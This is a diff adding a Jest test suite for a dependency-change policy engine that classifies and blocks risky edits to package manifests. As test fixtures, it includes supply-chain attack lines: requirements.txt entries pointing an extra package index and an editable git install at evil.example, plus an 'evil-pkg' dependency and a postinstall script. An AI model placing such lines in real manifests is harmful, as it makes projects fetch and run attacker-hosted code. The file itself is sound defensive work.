@@ -0,0 +1,338 @@
+import {
+  analyzeManifestChanges,
+  compareVersionSpecs,
+  dependencyChangeSeverity,
+  type DependencyChange,
+} from '@core/policy/dependency-analysis';
+import { extractLineChanges } from '@core/policy/diff-parser';
+import { createPolicyConfig, evaluatePolicy } from '@core/policy/policy-engine';
+import { evaluateGate2 } from '@core/policy/gate2';
+import { PolicyRuleRegistry } from '@core/policy/policy-rules';
+
+function analyze(diff: string, path: string): DependencyChange[] {
+  return analyzeManifestChanges(extractLineChanges(diff).get(path)!) ?? [];
+}
+
+function fileDiff(path: string, hunk: string): string {
+  return [
+    `diff --git a/${path} b/${path}`,
+    'index abc123..def456 100644',
+    `--- a/${path}`,
+    `+++ b/${path}`,
+    hunk,
+  ].join('\n');
+}
+
+const PACKAGE_JSON_DIFF = fileDiff('package.json', `@@ -5,12 +5,13 @@
+   "scripts": {
+-    "test": "jest",
++    "test": "jest --coverage",
+     "build": "tsc"
+   },
+   "dependencies": {
+-    "express": "^4.18.0",
+-    "zod": "^3.22.0",
++    "express": "^4.19.2",
++    "zod": "^3.22.4",
++    "left-pad": "^1.3.0",
+-    "moment": "^2.29.0"
++    "react": "^19.0.0"
+   },
+-  "version": "1.0.0"
++  "version": "1.1.0"
+ }
+`);
+
+const SCRIPT_ONLY_DIFF = fileDiff('apps/api/package.json', `@@ -3,6 +3,6 @@
+   "private": true,
+   "scripts": {
+-    "lint": "eslint src",
++    "lint": "eslint src --max-warnings 0",
+     "build": "tsc"
+   },
+`);
+
+describe('compareVersionSpecs', () => {
+  test.each([
+    ['^1.2.3', '^1.2.4', 'up', 'patch'],
+    ['^1.2.3', '^1.3.0', 'up', 'minor'],
+    ['1.2.3', '2.0.0', 'up', 'major'],
+    ['v1.5.0', 'v1.4.9', 'down', 'minor'],
+  ])('%s -> %s is %s (%s)', (from, to, direction, bump) => {
+    expect(compareVersionSpecs(from, to)).toEqual({ direction, bump });
+  });
+
+  test('returns null for non-numeric specs', () => {
+    expect(compareVersionSpecs('github:org/repo', '^1.0.0')).toBeNull();
+  });
+
+  test('reports same for range-only changes', () => {
+    expect(compareVersionSpecs('^1.2.0', '~1.2.0')).toEqual({ direction: 'same' });
+  });
+});
+
+describe('analyzeManifestChanges', () => {
+  test('returns null for files it cannot parse', () => {
+    const diff = fileDiff('yarn.lock', '@@ -1 +1 @@\n-a\n+b\n');
+    expect(analyzeManifestChanges(extractLineChanges(diff).get('yarn.lock')!)).toBeNull();
+  });
+
+  describe('package.json', () => {
+    const changes = analyze(PACKAGE_JSON_DIFF, 'package.json');
+    const byName = (name: string) => changes.find(c => c.name === name);
+
+    test('classifies upgrades with their bump level', () => {
+      expect(byName('express')).toMatchObject({ kind: 'upgraded', bump: 'minor', from: '^4.18.0', to: '^4.19.2', section: 'dependencies' });
+      expect(byName('zod')).toMatchObject({ kind: 'upgraded', bump: 'patch' });
+    });
+
+    test('classifies added and removed dependencies', () => {
+      expect(byName('left-pad')).toMatchObject({ kind: 'added', to: '^1.3.0' });
+      expect(byName('react')).toMatchObject({ kind: 'added' });
+      expect(byName('moment')).toMatchObject({ kind: 'removed', from: '^2.29.0' });
+    });
+
+    test('classifies script and metadata changes', () => {
+      expect(byName('test')).toMatchObject({ kind: 'script', from: 'jest', to: 'jest --coverage' });
+      expect(byName('version')).toMatchObject({ kind: 'metadata', from: '1.0.0', to: '1.1.0' });
+    });
+
+    test('ignores formatting-only changes', () => {
+      const diff = fileDiff('package.json', `@@ -2,4 +2,5 @@
+   "dependencies": {
+-    "express": "^4.18.0"
++    "express": "^4.18.0",
++    "lodash": "^4.17.21"
+   }
+`);
+      expect(analyze(diff, 'package.json')).toEqual([
+        expect.objectContaining({ name: 'lodash', kind: 'added' }),
+      ]);
+    });
+
+    test('infers dependencies from version-like values when the section is not visible', () => {
+      const diff = fileDiff('package.json', `@@ -20,3 +20,4 @@
+     "a": "^1.0.0",
++    "b": "^2.0.0",
+     "c": "^3.0.0",
+`);
+      expect(analyze(diff, 'package.json')).toEqual([
+        expect.objectContaining({ name: 'b', kind: 'added' }),
+      ]);
+    });
+  });
+
+  test('requirements.txt', () => {
+    const diff = fileDiff('requirements.txt', `@@ -1,3 +1,3 @@
+-requests==2.31.0
++requests==2.32.0
+ flask>=2.0
++Django_Rest[extra]>=3.14
+`);
+    expect(analyze(diff, 'requirements.txt')).toEqual([
+      expect.objectContaining({ name: 'requests', kind: 'upgraded', bump: 'minor', ecosystem: 'pypi' }),
+      expect.objectContaining({ name: 'django-rest', kind: 'added', to: '>=3.14' }),
+    ]);
+  });
+
+  test('go.mod', () => {
+    const diff = fileDiff('go.mod', `@@ -1,8 +1,9 @@
+ module example.com/app
+
+-go 1.21
++go 1.22
+
+ require (
+-	github.com/pkg/errors v0.9.1
++	github.com/pkg/errors v0.8.0
++	golang.org/x/sync v0.6.0 // indirect
+ )
++replace github.com/pkg/errors => github.com/fork/errors v0.9.2
+`);
+    const changes = analyze(diff, 'go.mod');
+    expect(changes).toEqual(expect.arrayContaining([
+      expect.objectContaining({ name: 'go', kind: 'metadata', from: '1.21', to: '1.22' }),
+      expect.objectContaining({ name: 'github.com/pkg/errors', kind: 'downgraded', bump: 'minor', section: 'require' }),
+      expect.objectContaining({ name: 'golang.org/x/sync', kind: 'added', to: 'v0.6.0' }),
+      expect.objectContaining({ name: 'github.com/pkg/errors', section: 'replace', kind: 'added' }),
+    ]));
+  });
+
+  test('Cargo.toml', () => {
+    const diff = fileDiff('Cargo.toml', `@@ -1,9 +1,9 @@
+ [package]
+ name = "app"
+-version = "0.1.0"
++version = "0.2.0"
+
+ [dependencies]
+-serde = { version = "1.0.190", features = ["derive"] }
++serde = { version = "1.0.195", features = ["derive"] }
++tokio = "1"
+
+ [dev-dependencies.criterion]
+-version = "0.4"
++version = "0.5"
+`);
+    expect(analyze(diff, 'Cargo.toml')).toEqual(expect.arrayContaining([
+      expect.objectContaining({ name: 'version', kind: 'metadata', section: 'package' }),
+      expect.objectContaining({ name: 'serde', kind: 'upgraded', bump: 'patch', ecosystem: 'cargo' }),
+      expect.objectContaining({ name: 'tokio', kind: 'added', to: '1' }),
+      expect.objectContaining({ name: 'criterion', kind: 'upgraded', bump: 'minor' }),
+    ]));
+  });
+
+  test('pyproject.toml', () => {
+    const diff = fileDiff('pyproject.toml', `@@ -1,12 +1,13 @@
+ [project]
+ name = "app"
+ dependencies = [
+-  "httpx>=0.25",
++  "httpx>=0.27",
++  "pydantic>=2",
+ ]
+
+ [project.scripts]
+-app = "app.cli:main"
++app = "app.cli:run"
+
+ [tool.poetry.dependencies]
+-python = "^3.11"
++python = "^3.12"
+`);
+    expect(analyze(diff, 'pyproject.toml')).toEqual(expect.arrayContaining([
+      expect.objectContaining({ name: 'httpx', kind: 'upgraded', bump: 'minor' }),
+      expect.objectContaining({ name: 'pydantic', kind: 'added' }),
+      expect.objectContaining({ name: 'app', kind: 'script', to: 'app.cli:run' }),
+      expect.objectContaining({ name: 'python', kind: 'metadata' }),
+    ]));
+  });
+});
+
+describe('dependencyChangeSeverity', () => {
+  const change = (overrides: Partial<DependencyChange>): DependencyChange => ({
+    file: 'package.json', ecosystem: 'npm', kind: 'added', name: 'x', ...overrides,
+  });
+
+  test('uses default severities', () => {
+    expect(dependencyChangeSeverity(change({ kind: 'added' }))).toBe('BLOCK');
+    expect(dependencyChangeSeverity(change({ kind: 'added' }), { allowlisted: true })).toBe('WARN');
+    expect(dependencyChangeSeverity(change({ kind: 'upgraded', bump: 'patch' }))).toBe('WARN');
+    expect(dependencyChangeSeverity(change({ kind: 'upgraded', bump: 'major' }))).toBe('BLOCK');
+    expect(dependencyChangeSeverity(change({ kind: 'script' }))).toBe('WARN');
+    expect(dependencyChangeSeverity(change({ kind: 'metadata' }))).toBe('ALLOW');
+  });
+
+  test('applies overrides', () => {
+    expect(dependencyChangeSeverity(change({ kind: 'script' }), { severities: { script: 'BLOCK' } })).toBe('BLOCK');
+  });
+
+  test('caps BLOCK at WARN when dependency changes are allowed', () => {
+    expect(dependencyChangeSeverity(change({ kind: 'added' }), { allowDependencyChanges: true })).toBe('WARN');
+  });
+});
+
+describe('evaluatePolicy dependency rules', () => {
+  test('does not block script-only edits', () => {
+    const result = evaluatePolicy(SCRIPT_ONLY_DIFF);
+    expect(result.hasBlockingViolations).toBe(false);
+    expect(result.violations).toEqual([
+      expect.objectContaining({ rule: 'dependency_script_change', severity: 'WARN', line: 5 }),
+    ]);
+  });
+
+  test('reports a separate rule per change kind', () => {
+    const result = evaluatePolicy(PACKAGE_JSON_DIFF);
+    const rules = result.violations.map(v => `${v.rule}:${v.severity}`);
+    expect(rules).toEqual(expect.arrayContaining([
+      'dependency_upgraded:WARN',
+      'dependency_added:BLOCK',
+      'dependency_removed:WARN',
+      'dependency_script_change:WARN',
+    ]));
+    expect(rules.some(r => r.startsWith('dependency_metadata_change'))).toBe(false);
+    expect(result.violations.find(v => v.rule === 'dependency_upgraded')?.evidence).toBe('express: ^4.18.0 -> ^4.19.2');
+  });
+
+  test('downgrades allowlisted additions to WARN', () => {
+    const config = createPolicyConfig({ dependencyAllowlist: ['left-pad', 'react*'] });
+    const added = evaluatePolicy(PACKAGE_JSON_DIFF, config).violations.filter(v => v.rule === 'dependency_added');
+    expect(added.map(v => v.severity)).toEqual(['WARN', 'WARN']);
+  });
+
+  test('warns on lockfiles updated with their manifest, blocks them alone', () => {
+    const lockfile = fileDiff('package-lock.json', '@@ -1 +1 @@\n-{"a":1}\n+{"a":2}\n');
+
+    const alone = evaluatePolicy(lockfile);
+    expect(alone.violations.find(v => v.rule === 'dependency_change')?.severity).toBe('BLOCK');
+
+    // A manifest in another directory doesn't count
+    const otherDir = evaluatePolicy(`${SCRIPT_ONLY_DIFF}${lockfile}`);
+    expect(otherDir.violations.find(v => v.rule === 'dependency_change')?.severity).toBe('BLOCK');
+
+    const sameDir = evaluatePolicy(`${PACKAGE_JSON_DIFF}${lockfile}`);
+    expect(sameDir.violations.find(v => v.rule === 'dependency_change')?.severity).toBe('WARN');
+  });
+
+  test('blocks changed lines the parser cannot classify', () => {
+    const inlineObject = fileDiff('package.json', `@@ -3,3 +3,3 @@
+   "version": "1.0.0",
+-  "dependencies": { "react": "^18.0.0" }
++  "dependencies": { "react": "^18.0.0", "evil-pkg": "^1.0.0" }
+ }
+`);
+    const requirementOptions = fileDiff('requirements.txt', `@@ -1,2 +1,4 @@
+ requests==2.31.0
++--extra-index-url https://evil.example/simple
++-e git+https://evil.example/pkg.git#egg=pkg
+ flask==3.0.0
+`);
+    const resolutions = fileDiff('package.json', `@@ -8,1 +8,1 @@
+-  "resolutions": { "lodash": "4.17.21" }
++  "resolutions": { "lodash": "4.17.0" }
+`);
+
+    for (const diff of [inlineObject, requirementOptions, resolutions]) {
+      const result = evaluatePolicy(diff);
+      expect(result.hasBlockingViolations).toBe(true);
+      expect(result.violations).toEqual(expect.arrayContaining([
+        expect.objectContaining({ rule: 'dependency_change', severity: 'BLOCK' }),
+      ]));
+    }
+    expect(evaluatePolicy(requirementOptions).violations.filter(v => v.rule === 'dependency_change').map(v => v.line)).toEqual([2, 3]);
+  });
+
+  test('ignores structural and comment lines', () => {
+    const diff = fileDiff('requirements.txt', `@@ -1,1 +1,3 @@
+ requests==2.31.0
++# pinned for the CLI
++
+`);
+    expect(evaluatePolicy(diff).violations).toEqual([]);
+  });
+
+  test('blocks added or changed install scripts', () => {
+    const diff = fileDiff('package.json', `@@ -5,3 +5,4 @@
+   "scripts": {
+     "build": "tsc",
++    "postinstall": "node scripts/setup.js"
+   },
+`);
+    const result = evaluatePolicy(diff);
+    expect(result.violations).toEqual([
+      expect.objectContaining({
+        rule: 'dependency_script_change',
+        severity: 'BLOCK',
+        message: 'Install script "postinstall" added in "package.json"',
+      }),
+    ]);
+  });
+
+  test('attaches classified changes to Gate2 evidence', () => {
+    const result = evaluateGate2(SCRIPT_ONLY_DIFF, undefined, { rules: new PolicyRuleRegistry() });
+    expect(result.verdict).toBe('WARN');
+    expect(result.evidence.dependencyChanges).toEqual([
+      expect.objectContaining({ file: 'apps/api/package.json', kind: 'script', name: 'lint' }),
+    ]);
+  });
+});